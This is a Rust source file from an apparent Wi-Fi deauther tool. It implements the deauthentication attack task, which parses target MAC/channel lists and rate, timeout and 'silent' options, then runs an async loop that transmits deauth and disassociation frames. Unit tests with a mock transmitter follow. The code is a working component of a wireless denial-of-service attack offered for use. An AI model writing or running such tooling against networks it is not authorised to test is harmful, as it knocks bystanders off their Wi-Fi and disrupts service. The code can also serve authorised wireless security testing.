//! Deauthentication attack task
//!
//! Hosts an [`AttackController`] inside the async attack loop: the loop only
//! polls, the controller decides what each poll does.

use super::controller::{AttackController, DeauthConfig};
use super::target::TargetList;
use async_trait::async_trait;
use deauther_core::{
    Attack, AttackContext, AttackParams, AttackStats, AttackStatsCounters, Clock, Error,
    MonotonicClock, Result,
};
use parking_lot::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::SystemTime;
use tokio::time::{interval, Duration, MissedTickBehavior};
use tracing::{debug, info};

/// Gap between two controller ticks
pub const POLL_INTERVAL: Duration = Duration::from_millis(1);

pub struct DeauthAttack {
    targets: Mutex<TargetList>,
    config: DeauthConfig,
    started_at: Mutex<Option<SystemTime>>,
    running: Arc<AtomicBool>,
    stats: Arc<AttackStatsCounters>,
}

impl DeauthAttack {
    pub fn new(targets: TargetList, config: DeauthConfig) -> Self {
        Self {
            targets: Mutex::new(targets),
            config,
            started_at: Mutex::new(None),
            running: Arc::new(AtomicBool::new(false)),
            stats: Arc::new(AttackStatsCounters::default()),
        }
    }

    /// Build the attack from launch parameters
    ///
    /// Recognised keys: `targets` (required), `deauth`, `disassoc`, `rate`,
    /// `timeout` (seconds), `max_packets`, `silent`. Missing keys fall back
    /// to [`DeauthConfig::default`].
    pub fn from_params(params: &AttackParams) -> Result<Self> {
        let targets = params
            .get_string("targets")
            .ok_or_else(|| Error::invalid_parameter("targets", "No targets specified"))
            .and_then(TargetList::parse_list)?;
        if targets.is_empty() {
            return Err(Error::invalid_parameter("targets", "No targets specified"));
        }

        let defaults = DeauthConfig::default();
        let config = DeauthConfig {
            deauth: bool_param(params, "deauth", defaults.deauth)?,
            disassoc: bool_param(params, "disassoc", defaults.disassoc)?,
            rate: match params.get("rate") {
                Some(_) => params
                    .get_u32("rate")
                    .ok_or_else(|| Error::invalid_parameter("rate", "Expected an integer"))?,
                None => defaults.rate,
            },
            timeout_ms: match params.get("timeout") {
                Some(_) => params
                    .get_u32("timeout")
                    .ok_or_else(|| Error::invalid_parameter("timeout", "Expected seconds"))?
                    .checked_mul(1000)
                    .ok_or_else(|| Error::invalid_parameter("timeout", "Timeout too large"))?,
                None => defaults.timeout_ms,
            },
            max_packets: match params.get("max_packets") {
                Some(_) => params
                    .get_u64("max_packets")
                    .ok_or_else(|| Error::invalid_parameter("max_packets", "Expected an integer"))?,
                None => defaults.max_packets,
            },
            silent: bool_param(params, "silent", defaults.silent)?,
        };
        config.validate()?;

        Ok(Self::new(targets, config))
    }

    pub fn config(&self) -> &DeauthConfig {
        &self.config
    }

    pub fn target_count(&self) -> usize {
        self.targets.lock().len()
    }
}

fn bool_param(params: &AttackParams, key: &str, default: bool) -> Result<bool> {
    match params.get(key) {
        Some(_) => params
            .get_bool(key)
            .ok_or_else(|| Error::invalid_parameter(key, "Expected true or false")),
        None => Ok(default),
    }
}

#[async_trait]
impl Attack for DeauthAttack {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let clock = MonotonicClock::new();
        let mut targets = std::mem::take(&mut *self.targets.lock());
        let mut controller = AttackController::new(ctx.transmitter);
        if let Err(e) = controller.start(&mut targets, self.config.clone(), clock.now_ms()) {
            self.running.store(false, Ordering::SeqCst);
            ctx.running.store(false, Ordering::SeqCst);
            return Err(e);
        }
        *self.started_at.lock() = Some(SystemTime::now());
        self.running.store(true, Ordering::SeqCst);

        let mut ticker = interval(POLL_INTERVAL);
        ticker.set_missed_tick_behavior(MissedTickBehavior::Skip);

        while controller.is_running() {
            if !self.running.load(Ordering::SeqCst) || !ctx.running.load(Ordering::SeqCst) {
                debug!("Deauth attack cancelled");
                controller.stop();
                break;
            }

            ticker.tick().await;
            controller.tick(clock.now_ms());

            let (sent, bytes, failed) = (
                controller.sent(),
                controller.bytes_sent(),
                controller.failed(),
            );
            self.stats.record(sent, bytes, failed);
            ctx.stats.record(sent, bytes, failed);
        }

        let (sent, bytes, failed) = (
            controller.sent(),
            controller.bytes_sent(),
            controller.failed(),
        );
        self.stats.record(sent, bytes, failed);
        ctx.stats.record(sent, bytes, failed);

        self.running.store(false, Ordering::SeqCst);
        ctx.running.store(false, Ordering::SeqCst);
        info!(sent, failed, "Deauth attack finished");

        Ok(())
    }

    fn stop(&self) {
        self.running.store(false, Ordering::SeqCst);
    }

    fn stats(&self) -> AttackStats {
        let running = self.running.load(Ordering::SeqCst);
        match *self.started_at.lock() {
            Some(started_at) => self.stats.to_stats(started_at, running),
            None => AttackStats {
                is_running: running,
                ..Default::default()
            },
        }
    }

    fn name(&self) -> &str {
        "Deauthentication"
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use deauther_core::Transmitter;
    use std::sync::atomic::AtomicU64;

    struct CountingTransmitter(Arc<AtomicU64>);

    impl Transmitter for CountingTransmitter {
        fn transmit(&mut self, _channel: u8, _frame: &[u8]) -> Result<()> {
            self.0.fetch_add(1, Ordering::SeqCst);
            Ok(())
        }
    }

    const TARGETS: &str = "aa:aa:aa:aa:aa:aa/ff:ff:ff:ff:ff:ff/1,bb:bb:bb:bb:bb:bb/ff:ff:ff:ff:ff:ff/6";

    fn context(frames: Arc<AtomicU64>) -> AttackContext {
        AttackContext {
            transmitter: Box::new(CountingTransmitter(frames)),
            running: Arc::new(AtomicBool::new(true)),
            stats: Arc::new(AttackStatsCounters::default()),
        }
    }

    #[test]
    fn test_from_params_defaults() {
        let params = AttackParams::new().set("targets", TARGETS);
        let attack = DeauthAttack::from_params(&params).unwrap();

        assert_eq!(attack.target_count(), 2);
        assert_eq!(attack.config(), &DeauthConfig::default());
    }

    #[test]
    fn test_from_params_overrides() {
        let params = AttackParams::from_pairs([
            "targets=aa:aa:aa:aa:aa:aa/ff:ff:ff:ff:ff:ff/11",
            "deauth=false",
            "rate=50",
            "timeout=10",
            "max_packets=500",
            "silent=true",
        ])
        .unwrap();
        let attack = DeauthAttack::from_params(&params).unwrap();

        let config = attack.config();
        assert!(!config.deauth);
        assert!(config.disassoc);
        assert_eq!(config.rate, 50);
        assert_eq!(config.timeout_ms, 10_000);
        assert_eq!(config.max_packets, 500);
        assert!(config.silent);
    }

    #[test]
    fn test_from_params_rejects_bad_input() {
        assert!(DeauthAttack::from_params(&AttackParams::new()).is_err());
        assert!(DeauthAttack::from_params(&AttackParams::new().set("targets", "")).is_err());

        let base = AttackParams::new().set("targets", TARGETS);
        assert!(DeauthAttack::from_params(&base.clone().set("rate", "fast")).is_err());
        assert!(DeauthAttack::from_params(&base.clone().set("rate", 0u32)).is_err());
        assert!(DeauthAttack::from_params(
            &base.clone().set("deauth", false).set("disassoc", false)
        )
        .is_err());
        assert!(DeauthAttack::from_params(&base.set("silent", "sometimes")).is_err());
    }

    #[tokio::test]
    async fn test_execute_runs_until_timeout() {
        let frames = Arc::new(AtomicU64::new(0));
        let config = DeauthConfig {
            rate: 1000,
            timeout_ms: 100,
            silent: true,
            ..Default::default()
        };
        let attack = DeauthAttack::new(TargetList::parse_list(TARGETS).unwrap(), config);
        let ctx = context(frames.clone());
        let ctx_stats = ctx.stats.clone();

        tokio::time::timeout(Duration::from_secs(5), attack.execute(ctx))
            .await
            .expect("attack did not time out")
            .unwrap();

        let sent = frames.load(Ordering::SeqCst);
        assert!(sent > 0);
        assert_eq!(attack.stats().packets_sent, sent);
        assert_eq!(attack.stats().bytes_sent, sent * 26);
        assert_eq!(ctx_stats.packets_sent.load(Ordering::Relaxed), sent);
        assert!(!attack.stats().is_running);
        assert!(attack.stats().started_at.is_some());
        assert!(attack.stats().duration_secs.is_some());
    }

    #[tokio::test]
    async fn test_execute_stops_on_request() {
        let frames = Arc::new(AtomicU64::new(0));
        let config = DeauthConfig {
            rate: 100,
            timeout_ms: 0,
            silent: true,
            ..Default::default()
        };
        let attack = Arc::new(DeauthAttack::new(
            TargetList::parse_list(TARGETS).unwrap(),
            config,
        ));

        let task = {
            let attack = attack.clone();
            let ctx = context(frames.clone());
            tokio::spawn(async move { attack.execute(ctx).await })
        };

        tokio::time::sleep(Duration::from_millis(50)).await;
        assert!(attack.stats().is_running);
        attack.stop();

        tokio::time::timeout(Duration::from_secs(5), task)
            .await
            .expect("attack ignored stop")
            .unwrap()
            .unwrap();
        assert!(!attack.stats().is_running);
        assert!(frames.load(Ordering::SeqCst) > 0);
    }

    #[tokio::test]
    async fn test_execute_without_targets_fails() {
        let attack = DeauthAttack::new(TargetList::new(), DeauthConfig::default());
        let ctx = context(Arc::new(AtomicU64::new(0)));
        let running = ctx.running.clone();

        let err = attack.execute(ctx).await.unwrap_err();
        assert!(err.is_configuration());
        assert!(!running.load(Ordering::SeqCst));
        assert!(!attack.stats().is_running);
        assert!(attack.stats().started_at.is_none());
    }

    #[tokio::test]
    async fn test_second_execute_fails_and_clears_flag() {
        let config = DeauthConfig {
            rate: 1000,
            timeout_ms: 20,
            silent: true,
            ..Default::default()
        };
        let attack = DeauthAttack::new(TargetList::parse_list(TARGETS).unwrap(), config);
        attack
            .execute(context(Arc::new(AtomicU64::new(0))))
            .await
            .unwrap();
        assert_eq!(attack.target_count(), 0);

        let ctx = context(Arc::new(AtomicU64::new(0)));
        let running = ctx.running.clone();
        assert!(attack.execute(ctx).await.is_err());
        assert!(!running.load(Ordering::SeqCst));
    }
}
